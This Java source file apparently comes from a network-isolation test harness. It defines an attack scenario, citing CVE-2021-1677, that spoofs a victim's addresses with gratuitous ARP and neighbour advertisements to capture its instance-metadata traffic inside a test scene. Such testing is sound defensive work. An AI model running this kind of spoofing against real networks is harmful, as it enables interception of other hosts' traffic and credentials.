package dev.rolecall.isolation.attack.spoof;

import dev.rolecall.isolation.attack.Attack;
import dev.rolecall.isolation.cluster.Cast;
import dev.rolecall.isolation.foothold.Answer;
import dev.rolecall.isolation.rig.Topology;
import dev.rolecall.isolation.scene.Http;
import dev.rolecall.isolation.scene.Outcome;
import dev.rolecall.isolation.scene.Scene;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;

/** Tells the node that the victim's addresses are at the attacker's interface (CVE-2021-1677). */
public final class PoisonedNeighbours implements Attack {
  private static final int TIMES = 3;
  private static final String BUSY = "busy";

  @Override
  public String name() {
    return "poisoned-neighbours";
  }

  @Override
  public String does() {
    return "claims the busy victim's addresses by gratuitous ARP and neighbour advertisements, and asks from them";
  }

  @Override
  public Set<Topology> topologies() {
    return EnumSet.of(Topology.BRIDGE);
  }

  @Override
  public Outcome run(Scene scene) {
    String own = scene.attachment(Cast.ATTACKER).mac();
    List<Answer> answers = new ArrayList<>();
    scene
        .at(Cast.VICTIM)
        .hammer(BUSY, Http.IMDS4, Http.PORT, 1, Http.request("GET", "/", Http.IMDS4));
    try (Disguise disguise = Disguise.as(scene, Cast.VICTIM)) {
      for (int i = 0; i < TIMES; i++) {
        disguise.announces(own);
        disguise.forgetsGateway();
        answers.addAll(disguise.asksEveryWay());
      }
    } finally {
      scene.at(Cast.VICTIM).harvest(BUSY);
    }
    return scene.foreign(Cast.ATTACKER, answers);
  }
}
